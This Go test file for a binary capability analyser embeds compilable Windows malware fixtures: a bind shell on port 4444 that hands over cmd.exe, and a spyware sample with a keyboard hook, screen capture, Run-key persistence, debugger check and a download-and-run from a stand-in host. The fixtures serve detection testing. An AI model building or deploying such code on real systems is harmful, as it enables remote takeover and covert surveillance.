package exe

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"testing"
)

// Windows fixtures, built with Debian's gcc-mingw-w64-x86-64.

const cWinBindShell = `#include <winsock2.h>
#include <windows.h>
int main(void) {
	WSADATA w; WSAStartup(MAKEWORD(2, 2), &w);
	SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(4444);
	bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 1);
	SOCKET c = accept(s, 0, 0);
	STARTUPINFOA si = {0}; PROCESS_INFORMATION pi;
	si.cb = sizeof si; si.dwFlags = STARTF_USESTDHANDLES;
	si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)c;
	char cmd[] = "cmd.exe";
	CreateProcessA(0, cmd, 0, 0, TRUE, 0, 0, 0, &si, &pi);
	return 0;
}
`

// cWinSpy hooks the keyboard, grabs the screen, persists in the Run key,
// checks for a debugger and downloads and runs an update.
const cWinSpy = `#include <windows.h>
#include <urlmon.h>
static LRESULT CALLBACK hook(int code, WPARAM w, LPARAM l) { GetKeyState(VK_SHIFT); return CallNextHookEx(0, code, w, l); }
int main(void) {
	if (IsDebuggerPresent()) return 0;
	SetWindowsHookExA(WH_KEYBOARD_LL, hook, 0, 0);
	HDC screen = GetDC(0), mem = CreateCompatibleDC(screen);
	BitBlt(mem, 0, 0, 100, 100, screen, 0, 0, SRCCOPY);
	HKEY k;
	RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE, &k);
	RegSetValueExA(k, "updater", 0, REG_SZ, (const BYTE *)"C:\\u.exe", 9);
	URLDownloadToFileA(0, "http://updates.badhost.cn/u.exe", "C:\\u.exe", 0, 0);
	WinExec("C:\\u.exe", SW_HIDE);
	return 0;
}
`

func TestPE(t *testing.T) {
	const cc = "x86_64-w64-mingw32-gcc"
	bind := parseFile(t, buildC(t, cc, "winbind", cWinBindShell, "-lws2_32"))
	if bind.Format != "pe" || bind.Arch != "x86-64" || bind.Type != "executable" || bind.Linkage != "dynamic" {
		t.Errorf("header %+v", bind)
	}
	if !hasString(bind.Libraries, "ws2_32.dll") || !hasString(bind.Imports, "CreateProcessA") {
		t.Errorf("libraries %v imports %v", bind.Libraries, bind.Imports)
	}
	wantCaps(t, "winbind", bind, []CapName{CapNetListen, CapExec, CapShell}, []CapName{CapInput, CapScreen, CapPersistence, CapSelfUpdate})

	spy := parseFile(t, buildC(t, cc, "winspy", cWinSpy, "-lurlmon", "-lgdi32"))
	wantCaps(t, "winspy", spy, []CapName{CapInput, CapScreen, CapPersistence, CapAntiDebug, CapExec, CapNetConnect, CapSelfUpdate},
		[]CapName{CapNetListen, CapShell})
	if ev := capOf(spy, CapPersistence); ev == nil || !hasString(ev.Evidence, "import:RegSetValueExA") {
		t.Errorf("persistence evidence %+v", ev)
	}

	helloPath := buildC(t, cc, "hello", cHello)
	hello := parseFile(t, helloPath)
	wantCaps(t, "win hello", hello, nil, []CapName{CapNetListen, CapNetConnect, CapExec, CapShell, CapInput, CapScreen, CapSelfUpdate})

	// The same file with the native subsystem is what a driver says.
	b, err := os.ReadFile(helloPath)
	if err != nil {
		t.Fatal(err)
	}
	lfanew := binary.LittleEndian.Uint32(b[0x3c:])
	binary.LittleEndian.PutUint16(b[lfanew+24+68:], 1) // OptionalHeader.Subsystem
	drv := filepath.Join(t.TempDir(), "drv.sys")
	os.WriteFile(drv, b, 0o644)
	if in := parseFile(t, drv); in.Type != "driver" {
		t.Errorf("native subsystem: type %q", in.Type)
	}

	dll := parseFile(t, buildC(t, cc, "libsh", cSharedLib, "-shared"))
	if dll.Type != "dll" {
		t.Errorf("dll type %q", dll.Type)
	}
}

// A PE whose e_lfanew points nowhere is not an executable; one whose
// section table runs past the end is a malformed one.
func TestPEHostileHeaders(t *testing.T) {
	mz := make([]byte, 512)
	copy(mz, "MZ")
	binary.LittleEndian.PutUint32(mz[0x3c:], 0x7fffffff)
	if _, err := Parse(bytes.NewReader(mz), int64(len(mz))); err != ErrNotExecutable {
		t.Errorf("bad e_lfanew: %v", err)
	}
	binary.LittleEndian.PutUint32(mz[0x3c:], 0x80)
	copy(mz[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(mz[0x84:], 0x8664)
	binary.LittleEndian.PutUint16(mz[0x86:], 65535) // sections
	in, err := Parse(bytes.NewReader(mz), int64(len(mz)))
	if err != nil || in == nil || len(in.Warnings) == 0 {
		t.Errorf("lying section count: %+v %v", in, err)
	}
}
